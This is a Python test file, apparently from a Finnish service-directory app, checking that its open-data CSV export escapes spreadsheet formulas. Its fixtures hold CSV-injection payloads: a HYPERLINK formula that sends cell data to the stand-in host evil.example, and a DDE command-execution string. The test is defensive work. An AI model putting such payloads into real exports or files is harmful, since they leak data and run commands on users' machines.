"""The open-data CSV download: what an editor typed reaches a spreadsheet as text, never as a formula."""
import csv
import io

from tests.factories import LocationFactory, OrganizationFactory, ServiceAtLocationFactory, ServiceFactory

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Lisätietoa")'


def test_item4_open_data_csv_cells_cannot_run_as_formulas(client, db):
    organization = OrganizationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    service = ServiceFactory(organization=organization, name=FORMULA, description="+358 40 123 4567",
                             cost_description="-5 €")
    ServiceAtLocationFactory(service=service, location=LocationFactory(organization=organization, name="=1+1",
                                                                      address_1="\t=2+2"))
    db.session.commit()
    response = client.get("/avoin-data/tarjotin.csv")
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
    assert row["service_name"] == "'" + FORMULA
    assert row["service_description"] == "'+358 40 123 4567" and row["fees_description"] == "'-5 €"
    assert row["organization_name"].startswith("'@") and row["location_name"] == "'=1+1"
    assert row["address_1"] == "'\t=2+2"
    assert row["service_id"] == service.id and row["is_free"] in ("true", "false")
